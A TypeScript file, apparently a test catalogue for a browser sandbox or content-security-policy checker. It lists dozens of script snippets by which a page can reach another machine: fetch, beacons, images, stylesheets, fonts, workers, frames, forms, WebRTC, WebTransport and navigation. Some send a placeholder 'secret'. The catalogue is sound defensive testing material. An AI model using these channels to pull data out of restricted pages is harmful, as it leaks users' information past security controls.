// Every way in which a script of a page can try to reach another machine. `T` is the address it tries to reach.

export interface Attack {
  name: string
  /** Uses `T` (http address of the target ending in the attack's own path), `HOST` (its host and port) and `UDP` (its port). */
  script: string
  /** The target hears it even from a page that is free to do everything; else nothing can be heard of it at all. */
  heard: 'http' | 'bytes' | 'udp' | 'never'
  /** Takes the page away from where it is. */
  leaves?: boolean
}

/** Puts an element into the page and gives it attributes, as a script would. */
const put = (tag: string, attributes: string, parent = 'body') =>
  `const e = document.createElement('${tag}'); for (const [n, v] of Object.entries(${attributes})) e.setAttribute(n, v); document.${parent}.append(e)`

const http = (name: string, script: string): Attack => ({ name, script, heard: 'http' })
const leaving = (name: string, script: string): Attack => ({ name, script, heard: 'http', leaves: true })

export const ATTACKS: readonly Attack[] = [
  http('fetch', `fetch(T)`),
  http('fetch without cors', `fetch(T, { mode: 'no-cors', method: 'POST', body: 'secret' })`),
  http('fetch that outlives the page', `fetch(T, { mode: 'no-cors', keepalive: true })`),
  http('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', T); x.send()`),
  http('WebSocket', `new WebSocket(T.replace('http', 'ws'))`),
  http('EventSource', `new EventSource(T)`),
  http('beacon', `navigator.sendBeacon(T, 'secret')`),
  http('image', `new Image().src = T`),
  http('image of a set', put('img', `{ srcset: T + ' 1x' }`)),
  http('image input', put('input', `{ type: 'image', src: T }`)),
  http(
    'image in svg',
    `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', T); s.append(i); document.body.append(s)`,
  ),
  http('image in a style', `document.body.style.backgroundImage = 'url("' + T + '")'`),
  http(
    'image in a style element',
    `const e = document.createElement('style'); e.textContent = 'html { background: url("' + T + '") }'; document.head.append(e)`,
  ),
  http(
    'image in an adopted sheet',
    `const s = new CSSStyleSheet(); s.replaceSync('html::before { content: url("' + T + '") }'); document.adoptedStyleSheets = [s]`,
  ),
  http(
    'import in a style element',
    `const e = document.createElement('style'); e.textContent = '@import "' + T + '"'; document.head.append(e)`,
  ),
  http('style sheet', put('link', `{ rel: 'stylesheet', href: T }`, 'head')),
  http('font', `new FontFace('f', 'url("' + T + '")').load().catch(() => {})`),
  http('video', put('video', `{ src: T, autoplay: '' }`)),
  http('audio', put('audio', `{ src: T, autoplay: '' }`)),
  http('poster', put('video', `{ poster: T }`)),
  http(
    'track',
    `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; const t = document.createElement('track'); t.default = true; t.src = T; v.append(t); document.body.append(v); t.track.mode = 'showing'`,
  ),
  http('object', put('object', `{ data: T }`)),
  http('embed', put('embed', `{ src: T }`)),
  http('frame', put('iframe', `{ src: T }`)),
  http(
    'frame by srcdoc',
    `const f = document.createElement('iframe'); f.srcdoc = '<img src="' + T + '">'; document.body.append(f)`,
  ),
  http('script', put('script', `{ src: T }`)),
  http('module', put('script', `{ src: T, type: 'module' }`)),
  http('import', `import(T).catch(() => {})`),
  http(
    'module in a worker',
    `new Worker(URL.createObjectURL(new Blob(['fetch("' + T + '", { mode: "no-cors" })'], { type: 'text/javascript' })))`,
  ),
  http(
    'shared worker',
    `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + T + '", { mode: "no-cors" })'], { type: 'text/javascript' })))`,
  ),
  http('preload', put('link', `{ rel: 'preload', as: 'script', href: T }`, 'head')),
  http('module preload', put('link', `{ rel: 'modulepreload', href: T }`, 'head')),
  http('prefetch', put('link', `{ rel: 'prefetch', href: T }`, 'head')),
  { name: 'manifest', script: put('link', `{ rel: 'manifest', href: T }`, 'head'), heard: 'never' },
  http(
    'speculation',
    `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: [T], eagerness: 'immediate' }] }); document.head.append(s)`,
  ),
  http(
    'form into a frame',
    `const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f); const e = document.createElement('form'); e.action = T; e.target = 'sink'; e.method = 'post'; document.body.append(e); e.submit()`,
  ),
  http(
    'ping of a link',
    `const a = document.createElement('a'); a.href = '#x'; a.setAttribute('ping', T); document.body.append(a); a.click()`,
  ),
  http('window', `window.open(T)`),
  http('window without opener', `window.open(T, '_blank', 'noopener')`),
  http(
    'link to a new window',
    `const a = document.createElement('a'); a.href = T; a.target = '_blank'; a.rel = 'noopener'; document.body.append(a); a.click()`,
  ),
  leaving(
    'download',
    `const a = document.createElement('a'); a.href = T; a.download = 'x'; document.body.append(a); a.click()`,
  ),
  { name: 'preconnect', script: put('link', `{ rel: 'preconnect', href: T }`, 'head'), heard: 'bytes' },
  { name: 'look-up ahead', script: put('link', `{ rel: 'dns-prefetch', href: T }`, 'head'), heard: 'never' },
  {
    name: 'WebRTC, STUN',
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
    heard: 'udp',
  },
  {
    name: 'WebRTC, TURN over TCP',
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + HOST + '?transport=tcp', username: 'u', credential: 'c' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
    heard: 'bytes',
  },
  {
    name: 'WebTransport',
    script: `new WebTransport('https://127.0.0.1:' + UDP + '/').ready.catch(() => {})`,
    heard: 'udp',
  },
  leaving('address', `location.href = T`),
  leaving('address replaced', `location.replace(T)`),
  leaving('link', `const a = document.createElement('a'); a.href = T; document.body.append(a); a.click()`),
  leaving('refresh', put('meta', `{ 'http-equiv': 'refresh', content: '0;url=' + T }`, 'head')),
  leaving(
    'form, posted',
    `const e = document.createElement('form'); e.action = T; e.method = 'post'; document.body.append(e); e.submit()`,
  ),
  leaving('form, asked', `const e = document.createElement('form'); e.action = T; document.body.append(e); e.submit()`),
  leaving('navigation API', `navigation.navigate(T)`),
]
